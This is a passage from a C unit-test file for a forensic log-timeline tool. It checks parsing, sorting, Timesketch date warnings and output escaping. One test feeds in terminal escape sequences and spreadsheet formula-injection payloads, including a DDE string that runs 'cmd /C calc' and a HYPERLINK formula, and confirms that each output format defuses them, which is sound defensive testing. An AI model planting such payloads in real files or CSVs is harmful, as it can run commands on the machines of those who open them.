	bound = 4ull * N * 14;
	for (i = 0; i < N; i++)
		idx[i] = (int)i;
	old = model_sort(times, idx, N);
	assert_true(old > 20 * bound);

	memset(&o, 0, sizeof o);
	memset(&wo, 0, sizeof wo);
	assert_int_equal(irt_tl_new(&tl, &o), 0);
	assert_int_equal(
	    irt_tl_add_buffer(tl, "bash_history", "h", in.ptr, in.len, NULL),
	    0);
	assert_int_equal(irt_tl_write(tl, &wo, to_buf, &out), 0);
	if (tl_sort_work(tl) > bound)
		fail_msg("the sort went through %llu elements, over %llu",
		    (unsigned long long)tl_sort_work(tl),
		    (unsigned long long)bound);
	/* and it sorted them all */
	{
		const char *p = out.ptr;
		long long prev = 0, t;
		size_t n = 0;
		while ((p = strstr(p, "\"ns\":")) != NULL) {
			t = strtoll(p + 5, NULL, 10);
			assert_true(t >= prev);
			prev = t;
			p++;
			n++;
		}
		assert_int_equal(n, N);
	}
	irt_tl_free(tl);
	free(idx);
	free(times);
	irt_buf_release(&in);
	irt_buf_release(&out);
}

/* Nothing a terminal would take for an escape: no control character but
 * tab and newline, no C1 control, nothing but valid UTF-8. */
static bool
terminal_safe(const char *s, size_t len)
{
	const unsigned char *u = (const unsigned char *)s;
	size_t i;

	if (!irt_utf8_valid(s, len))
		return false;
	for (i = 0; i < len; i++)
		if ((u[i] < 0x20 && u[i] != '\t' && u[i] != '\n') ||
		    u[i] == 0x7f ||
		    (u[i] == 0xc2 && i + 1 < len && u[i + 1] < 0xa0))
			return false;
	return true;
}

/*
 * Every output format is safe to print: escape sequences, C1 controls
 * and bytes that are not UTF-8 in names, modes and md5s are escaped, a
 * CSV cell that a spreadsheet would run is defused, l2tcsv's short cell
 * ends between two characters, and U+0085, U+2028 and U+2029 (which end
 * a line for Timesketch's importer) are \u escapes in JSON.
 */
#define A74                                                                    \
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
	"aaaaaa"

static void
test_output_escapes(void **state)
{
	static const char body[] =
	    "\x1b]0;pwn\x07|/bad\x1b[31m\xff\xc2\x9bname|1|"
	    "=HYPERLINK(\"http://x\")|0|0|1|1700000000|1700000000|0|0\n"
	    "0|/ok|2|-rw-r--r--|0|0|1|1700000001|0|0|0\n";
	static const char sys[] =
	    "Jan  2 03:04:05 h @SUM(1+1)*cmd|' /C calc'!A0\n"
	    "Jan  2 03:04:06 h app: a\xe2\x80\xa8"
	    "b\xe2\x80\xa9"
	    "c\xc2\x85"
	    "d\n"
	    "Jan  2 03:04:07 h app: "
	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	    "aaaaaaaaaaa\xc3\xa9\xc3\xa9\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	int f;

	(void)state;
	for (f = 0; f < IRT_TL_NFORMATS; f++) {
		irt_buf_clear(&out);
		assert_int_equal(build(&out, &w, "bodyfile", body,
		                     sizeof body - 1, (enum irt_tl_format)f, 0),
		    0);
		if (!terminal_safe(out.ptr, out.len))
			fail_msg("format %d: %s", f, out.ptr);
		irt_buf_clear(&out);
		assert_int_equal(build(&out, &w, "syslog", sys, sizeof sys - 1,
		                     (enum irt_tl_format)f, 0),
		    0);
		if (!terminal_safe(out.ptr, out.len))
			fail_msg("format %d: %s", f, out.ptr);
		if (f == IRT_TL_JSONL || f == IRT_TL_TIMESKETCH_JSONL)
			assert_non_null(
			    strstr(out.ptr, "a\\u2028b\\u2029c\\u0085d\""));
		if (f == IRT_TL_MACTIME_CSV || f == IRT_TL_L2TCSV ||
		    f == IRT_TL_TIMESKETCH_CSV)
			assert_non_null(strstr(
			    out.ptr, "\"'@SUM(1+1)*cmd|' /C calc'!A0\""));
	}
	irt_buf_clear(&out);
	assert_int_equal(build(&out, &w, "bodyfile", body, sizeof body - 1,
	                     IRT_TL_MACTIME_CSV, 0),
	    0);
	assert_non_null(strstr(out.ptr, ",\"'=HYPERLINK(\"\"http://x\"\")\","));
	assert_non_null(
	    strstr(out.ptr, "\"/bad\\x1b[31m\\xff\\xc2\\x9bname\""));
	assert_non_null(strstr(out.ptr, ",-rw-r--r--,"));
	irt_buf_clear(&out);
	assert_int_equal(build(&out, &w, "bodyfile", body, sizeof body - 1,
	                     IRT_TL_BODYFILE, 0),
	    0);
	assert_non_null(
	    strstr(out.ptr, "%1B]0;pwn%07|/bad%1B[31m%FF%C2%9Bname|"));
	irt_buf_clear(&out);
	assert_int_equal(
	    build(&out, &w, "syslog", sys, sizeof sys - 1, IRT_TL_L2TCSV, 0),
	    0);
	/* "app: " and 74 a: 79 bytes, and an é would end at 81: the short
	 * cell stops before it, not in the middle */
	assert_non_null(
	    strstr(out.ptr, ",app: " A74 ",app: " A74 "\xc3\xa9\xc3\xa9,"));
	assert_int_equal(w.n, 0);
	irt_buf_release(&out);
}

/* Timesketch's CSV reader drops times before 1700: a warning says so. */
static void
test_timesketch_1700(void **state)
{
	static const char body[] =
	    "0|/old|1|r|0|0|1|-9000000000|1700000000|0|0\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(build(&out, &w, "bodyfile", body, sizeof body - 1,
	                     IRT_TL_TIMESKETCH_CSV, 0),
	    0);
	assert_int_equal(w.n, 1);
	assert_string_equal(w.last,
	    "timesketch-csv: 1 events before 1700 written, which Timesketch's "
	    "CSV import drops (timesketch-jsonl keeps them)");
	assert_non_null(
	    strstr(out.ptr, "\n/old,1684-10-19T08:00:00.000000+00:00,"));
	memset(&w, 0, sizeof w);
	irt_buf_clear(&out);
	assert_int_equal(build(&out, &w, "bodyfile", body, sizeof body - 1,
	                     IRT_TL_TIMESKETCH_JSONL, 0),
	    0);
	assert_int_equal(w.n, 0);
	irt_buf_release(&out);
}

static void
test_strict(void **state)
{
	static const char bad[] = "garbage\n";
	struct irt_tl_opts o;
	struct irt_tl *tl;

	(void)state;
	memset(&o, 0, sizeof o);
	o.strict = true;
	assert_int_equal(irt_tl_new(&tl, &o), 0);
	assert_int_equal(
	    irt_tl_add_buffer(tl, "dpkg", "x.log", bad, sizeof bad - 1, NULL),
	    IRT_EPARSE);
	assert_non_null(strstr(irt_error_last(), "x.log:1:"));
	irt_tl_free(tl);
	memset(&o, 0, sizeof o);
	o.match = "(";
	assert_int_equal(irt_tl_new(&tl, &o), IRT_EINVAL);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sizes_and_formats),
		cmocka_unit_test(test_detect),
		cmocka_unit_test(test_secs),
		cmocka_unit_test(test_deterministic),
		cmocka_unit_test(test_spill),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_utmp),
		cmocka_unit_test(test_compressed),
		cmocka_unit_test(test_journal_json),
		cmocka_unit_test(test_journal_process),
		cmocka_unit_test(test_history_cut),
		cmocka_unit_test(test_utmp_stream),
		cmocka_unit_test(test_time_range),
		cmocka_unit_test(test_year_range),
		cmocka_unit_test(test_bodyfile_range),
		cmocka_unit_test(test_tmp_max),
		cmocka_unit_test(test_spoof),
		cmocka_unit_test(test_audit_decode),
		cmocka_unit_test(test_audit_hostile),
		cmocka_unit_test(test_syslog_repeated),
		cmocka_unit_test(test_syslog_forms),
		cmocka_unit_test(test_sudo_cron),
		cmocka_unit_test(test_bodyfile_variants),
		cmocka_unit_test(test_bash_before),
		cmocka_unit_test(test_cr_lines),
		cmocka_unit_test(test_sort_adversary),
		cmocka_unit_test(test_output_escapes),
		cmocka_unit_test(test_timesketch_1700),
		cmocka_unit_test(test_strict),
	};

	return UNIT_RUN(tests);
}
